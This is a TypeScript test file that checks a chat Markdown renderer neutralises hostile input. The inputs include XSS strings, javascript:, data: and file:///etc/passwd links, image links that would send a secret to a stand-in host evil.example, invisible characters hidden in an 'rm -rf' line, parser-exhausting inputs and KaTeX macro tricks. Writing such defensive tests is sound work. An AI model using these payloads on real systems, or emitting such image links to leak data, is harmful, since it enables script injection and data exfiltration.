import { MantineProvider } from "@mantine/core";
import { render, screen, waitFor } from "@testing-library/react";
import { beforeAll, expect, it } from "vitest";
import Markdown from "./Markdown";

// KaTeX refuses to work in documents without a doctype, and asks happy-dom, which does not know.
beforeAll(() => void Object.defineProperty(document, "compatMode", { value: "CSS1Compat", configurable: true }));

const show = (text: string, done = true) =>
  render(
    <MantineProvider env="test">
      <Markdown text={text} done={done} />
    </MantineProvider>,
  ).container.querySelector<HTMLElement>(".chat-markdown")!;

it("shows HTML as text", () => {
  const at = show(
    '<img src=x onerror="alert(1)"><script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>',
  );
  expect(at.querySelector("img, script, iframe, object, style")).toBeNull();
  expect(at.textContent).toContain("<script>alert(2)</script>");
});

it.each([
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java&#x0A;script:alert(1))",
  "[a](data:text/html,<script>alert(1)</script>)",
  "[a](vbscript:x)",
  "[a](file:///etc/passwd)",
  "[a](/admin/users)",
  "[a](//evil.example)",
  "<javascript:alert(1)>",
])("makes no link of %s", (text) => expect(show(text).querySelector("a")).toBeNull());

it("opens links without a referrer and an opener", () => {
  show("[docs](https://berth.example/a)");
  const link = screen.getByRole("link", { name: "docs" });
  expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  expect(link.getAttribute("target")).toBe("_blank");
});

it.each([
  "![x](https://evil.example/?q=secret)",
  "[r]: https://evil.example/?q=secret\n![x][r]",
  "[![x](https://evil.example/p.png)](https://evil.example)",
  "![x](data:image/svg+xml,<svg/>)",
  "![x](/auth/logout)",
])("loads no image for %s", (text) => {
  const at = show(text);
  expect(at.querySelector("img, picture, [style*=url]")).toBeNull();
  expect(at.textContent).toContain("Image");
});

it("names the host of an image", () =>
  expect(show("![chart](https://evil.example/?q=1)").textContent).toContain(
    "Image: chart at evil.example (not loaded)",
  ));

it("shows invisible characters, also in code", () => {
  const at = show("a\u202Eb\n\n```sh\nrm\u200B -rf\n```\n\n`x\u001b[2J`");
  expect(at.textContent).toContain("a⟨U+202E⟩b");
  expect(at.textContent).toContain("rm⟨U+200B⟩ -rf");
  expect(at.textContent).toContain("x⟨U+001B⟩[2J");
});

it.each([
  ["quotes", "> ".repeat(3000)],
  ["brackets", "[a](".repeat(2500)],
  ["emphasis", "**a ".repeat(4000)],
  ["underscores", "_a".repeat(4000)],
  ["backticks", "`a``".repeat(3000)],
  ["entities", "&#x26;".repeat(3000)],
  ["tables", `|${"a|".repeat(400)}\n|${"-|".repeat(400)}\n`.repeat(5)],
  ["links", "http://a.a".repeat(1500)],
])("renders hostile %s", (_, text) => {
  expect(show(text).textContent).not.toBe("");
});

it("renders tables, lists and math", async () => {
  const at = show("|a|b|\n|-|-|\n|1|2|\n\n- [x] done\n\n$e^x$ and\n\n$$\n\\frac12\n$$");
  expect(at.querySelectorAll("td")).toHaveLength(2);
  await waitFor(() => expect(at.querySelectorAll(".katex").length).toBeGreaterThanOrEqual(2));
});

it.each([
  "\\href{javascript:alert(1)}{x}",
  "\\includegraphics{https://evil.example/x.png}",
  "\\htmlStyle{background:url(//evil.example)}{x}",
  "\\def\\a{\\a\\a}\\a",
  "\\unknown",
])("keeps the formula %s harmless", async (formula) => {
  const at = show(`$${formula}$ $x$`);
  await waitFor(() => expect(at.querySelector(".katex")).not.toBeNull());
  expect(at.querySelector("a, img, [style*=url]")).toBeNull();
});

it("highlights complete code of a known language", async () => {
  const at = show("```python\ndef f(): pass\n```\n```nonsense\nx\n```");
  await waitFor(() => expect(at.querySelector(".hljs-keyword")?.textContent).toBe("def"));
  expect(screen.getAllByRole("button", { name: "Copy code" })).toHaveLength(2);
});

it("renders again when a growing text changes", () => {
  const { container, rerender } = render(
    <MantineProvider env="test">
      <Markdown text={"a\n\n**b"} done={false} />
    </MantineProvider>,
  );
  const first = container.querySelector("p");
  rerender(
    <MantineProvider env="test">
      <Markdown text={"a\n\n**b**"} done />
    </MantineProvider>,
  );
  expect(container.querySelector("p")).toBe(first);
  expect(container.querySelector("strong")?.textContent).toBe("b");
});
